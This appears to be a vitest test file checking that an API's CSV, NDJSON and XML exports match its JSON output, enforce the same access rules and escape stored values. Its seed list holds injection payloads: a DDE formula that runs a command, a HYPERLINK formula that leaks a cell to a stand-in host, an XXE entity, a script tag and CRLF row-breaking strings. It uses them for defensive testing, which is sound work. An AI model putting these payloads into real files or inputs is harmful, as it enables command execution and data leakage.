// @module-tag divided
import { describe, expect, test } from 'vitest';
import { parseCsv, withoutMark } from '../support/csv.ts';
import { databases } from '../support/databases.ts';
import { parseXml, type XmlElement } from '../support/xml.ts';
import { Item, registry } from './support/registry.ts';
import { useTarget } from './support/target.ts';
import { admin, ann, marker } from './support/vault.ts';

type Any = any;

/** Characters that XML does not have. */
const control = '\u0001\u000b\ufffe';

/** Stored as titles, and as names and values in JSON. */
const hostile = [
  '=1+1',
  '=cmd|" /C calc"!A0',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '＝1+1',
  '\v=1',
  '\f=1',
  '\ufeff=1',
  '\u200b=1',
  '\u00a0@SUM(1)',
  '\u200b',
  "'=1",
  "''=1",
  '"=1',
  '",=1',
  'a"\r\n=1,2',
  'a\r\n999,injected',
  'a\n999,injected',
  ',,,,',
  '\u2028=1',
  ' =1',
  '=HYPERLINK("http://x/?"&A1)',
  '</title><title>x',
  '<script>alert(1)</script>',
  ']]>',
  '<![CDATA[x]]>',
  '<!--',
  '&xxe;',
  '&#0;',
  '<!DOCTYPE a [<!ENTITY xxe SYSTEM "http://127.0.0.1:1/">]>',
  '<?xml version="1.0"?>',
  '" onload="x',
  control,
  '😀',
];

describe.each(databases)('API3:2023 response formats, on %s', (kind) => {
  const target = useTarget(kind, {
    ...registry,
    seed: async (em: Any) => {
      await registry.seed?.(em);
      for (const [index, title] of hostile.entries())
        em.create(Item, { id: index + 1, title, data: { [title]: title, list: [title] } });
      await em.flush();
    },
  } as never);

  const rowsOf = async (list: string, as: typeof ann, query = ''): Promise<Any[]> => {
    const { json, status, whole } = await target.send('GET', `${list}.json?items_per_page=200${query}`, { as });
    expect(status, whole).toBe(200);
    expect(json.count).toBe(json.results.length);
    return json.results;
  };
  const exported = async (list: string, format: string, as: typeof ann, query = '') => {
    const answer = await target.send('GET', `${list}.${format}?${query.slice(1)}`.replace(/\?$/, ''), { as });
    expect(answer.status, answer.whole).toBe(200);
    if (as === ann) expect(answer.whole).not.toContain(marker);
    return answer;
  };
  /** Columns as CSV has them: a to-one is parted into its fields. */
  const flat = (row: Any, names: string[]): (string | null)[] =>
    names.map((name) => {
      const value = name.split('.').reduce((at: Any, step) => at?.[step], row) ?? null;
      if (value === null) return null;
      return typeof value === 'object' ? JSON.stringify(value) : String(value);
    });
  const namesOf = (row: Any): string[] =>
    Object.entries(row).flatMap(([name, value]: [string, Any]) =>
      name !== 'data' && value !== null && typeof value === 'object' && !Array.isArray(value)
        ? namesOf(value).map((inner) => `${name}.${inner}`)
        : [name],
    );
  const read = ({ children, nil, text }: XmlElement): unknown => (nil ? null : children.length > 0 ? children.map(read) : text);
  const child = (element: XmlElement, name: string) => element.children.find((each) => each.name === name) as XmlElement;

  describe('every format contains the same rows and fields as JSON (CWE-213; nestjsx/crud#377)', () => {
    test.each(
      ['/room', '/item', '/loan'].flatMap((list) =>
        [
          [list, 'ann', ''],
          [list, 'root', ''],
          [list, 'ann', '&id[in]=102,103,202'],
          [list, 'ann', '&fields=id'],
        ].filter(([, , query]) => query === '' || list !== '/loan' || query?.startsWith('&fields')),
      ) as [string, string, string][],
    )('%s as %s %s', async (list, who, query) => {
      const as = who === 'ann' ? ann : admin;
      const rows = await rowsOf(list, as, query);
      expect(rows.length).toBeGreaterThan(0);
      const lines = (await exported(list, 'ndjson', as, query)).text.split('\n');
      expect(lines.pop()).toBe('');
      expect(lines.map((line) => JSON.parse(line))).toEqual(rows);

      const { header, rows: cells } = parseCsv((await exported(list, 'csv', as, query)).text);
      expect(new Set(header).size).toBe(header.length);
      // each column is one that some row of JSON has, or leads into what is null in all of them
      const known = new Set(rows.flatMap(namesOf));
      for (const name of header)
        expect(
          [...known].some((other) => other === name || name.startsWith(`${other}.`)),
          name,
        ).toBe(true);
      for (const name of known)
        expect(
          header.some((other) => other === name || other.startsWith(`${name}.`)),
          name,
        ).toBe(true);
      expect(cells.map((row) => row.map(withoutMark))).toEqual(rows.map((row) => flat(row, header)));

      const { text } = await exported(list, 'xml', as, `&items_per_page=200${query}`);
      const document = parseXml(text);
      expect(child(document, 'count').text).toBe(String(rows.length));
      expect(child(document, 'results').children.map((row) => row.children.map(({ name }) => name))).toEqual(
        rows.map((row) => Object.keys(row)),
      );
      expect(child(document, 'results').children.map((row) => child(row, 'id').text)).toEqual(rows.map(({ id }) => String(id)));
    });

    test.each(['csv', 'ndjson', 'xml'])('%s requires the same access as JSON (Symfony CVE-2026-45075)', async (format) => {
      for (const method of ['GET', 'HEAD']) {
        for (const path of [`/room.${format}`, `/room/201.${format}`]) {
          for (const as of [undefined, { id: 'eve', roles: [] }]) {
            const { status } = await target.send(method, path, { as });
            expect(status).toBe((await target.send(method, path.replace(/\w+$/, 'json'), { as })).status);
            expect([401, 403, 404]).toContain(status);
          }
        }
        expect((await target.send(method, `/room/202.${format}`, { as: ann })).status).toBe(404);
        expect((await target.send(method, `/room/202.${format}`, { as: admin })).status).toBe(200);
      }
      const hidden = await target.send('PATCH', `/room/202.${format}`, { as: ann, json: { name: 'mine' } });
      const missing = await target.send('PATCH', `/room/209.${format}`, { as: ann, json: { name: 'mine' } });
      expect(hidden.text.replaceAll('202', '#')).toBe(missing.text.replaceAll('209', '#'));
    });

    test.each(['page=1', 'page=2', 'items_per_page=1', 'after=x', 'before=x', 'sort=owner', 'fields=owner', 'owner=bob', 'x=y'])(
      'an export rejects ?%s with 400',
      async (query) => {
        for (const format of ['csv', 'ndjson']) {
          for (const method of ['GET', 'HEAD']) {
            const { status, whole } = await target.send(method, `/room.${format}?${query}`, { as: ann });
            expect(status).toBe(400);
            expect(whole).not.toContain(marker);
          }
        }
      },
    );

    test.each(['html', 'CSV', 'jsonp', 'xml2', 'csv.json', 'toString', '__proto__', 'constructor', '%63sv%00', 'yaml'])(
      'the unknown format %s returns 404',
      async (format) => {
        expect((await target.send('GET', `/room.${format}`, { as: ann })).status).toBe(404);
        expect((await target.send('GET', `/ordered.${format}`, { as: ann })).status).toBe(404);
      },
    );

    test('a list without the format returns 404', async () => {
      for (const format of ['csv', 'ndjson', 'xml']) {
        const { status, text } = await target.send('GET', `/ordered.${format}`, { as: ann });
        expect(status).toBe(404);
        expect(text).toMatch(/"code":"unknown_format"|<code>unknown_format<\/code>/);
      }
    });
  });

  describe('stored values cannot break out of their format', () => {
    test('no CSV value is a formula or ends its cell or row (CWE-1236)', async () => {
      for (const path of ['/item.csv?id[lt]=100&sort=id', '/item.csv?id[lt]=100&sort=id&fields=id,title']) {
        const { headers, text } = await target.send('GET', path, { as: ann });
        const { header, rows } = parseCsv(text);
        for (const cell of [...header, ...rows.flat()]) {
          if (cell !== null && !/^-?\d+(?:\.\d+)?$/.test(cell))
            expect(cell).not.toMatch(/^[\s\p{Z}\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u);
        }
        expect(rows.map((row) => withoutMark(row[header.indexOf('title')] ?? null))).toEqual(hostile);
        expect(headers['content-disposition']).toBe('attachment; filename="item.csv"');
      }
    });

    test('no XML text becomes markup (CWE-91, CWE-611)', async () => {
      const { text } = await target.send('GET', '/item.xml?id[lt]=100&sort=id&items_per_page=200', { as: ann });
      expect(text).not.toMatch(/<!|<script|&xxe;/);
      expect(text.match(/<\?/g)).toHaveLength(1);
      const shown = child(parseXml(text), 'results').children.map((row) => read(child(row, 'title')));
      // biome-ignore lint/suspicious/noControlCharactersInRegex: these are what XML cannot hold
      const writable = (title: string) => title.replace(/[\u0001\v\f\ufffe]/g, '\ufffd');
      expect(shown).toEqual(hostile.map(writable));
    });

    test('no value breaks its NDJSON line (CWE-93)', async () => {
      const { text } = await target.send('GET', '/item.ndjson?id[lt]=100&sort=id', { as: ann });
      expect(
        text
          .trimEnd()
          .split('\n')
          .map((line) => JSON.parse(line).title),
      ).toEqual(hostile);
    });

    test.each(hostile.map((title, index) => [title, index + 1] as const))('the row %j in every format', async (title, id) => {
      const [cells, line, document] = await Promise.all(
        ['csv', 'ndjson', 'xml'].map(async (format) => (await target.send('GET', `/item/${id}.${format}`, { as: ann })).text),
      );
      const { header, rows } = parseCsv(cells as string);
      expect([rows.length, withoutMark(rows[0]?.[header.indexOf('title')] ?? null)]).toEqual([1, title]);
      expect(JSON.parse(line as string).data).toEqual({ [title]: title, list: [title] });
      expect(parseXml(document as string).children.filter(({ name }) => name === 'title')).toHaveLength(1);
    });
  });
});
